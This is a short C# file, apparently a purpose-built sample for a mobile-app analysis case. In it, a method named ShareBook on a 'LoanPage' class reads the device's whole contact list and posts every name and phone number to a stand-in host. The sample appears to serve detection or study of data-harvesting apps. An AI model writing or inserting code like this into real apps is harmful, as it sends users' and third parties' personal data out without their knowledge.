// Written for this case: what the app's assembly is compiled from, by mcs against a stub of Xamarin.Essentials.
using System.Linq; using System.Net.Http; using System.Threading.Tasks;
using Xamarin.Essentials;

public class LoanPage
{
    readonly HttpClient http = new HttpClient();

    public async Task ShareBook()
    {
        var people = await Contacts.GetAllAsync();
        var rows = string.Join("\n", people.Select(each => each.DisplayName + "," + string.Join(";", each.Phones)));
        await http.PostAsync("https://api.example.com/v1/people", new StringContent(rows));
    }
}
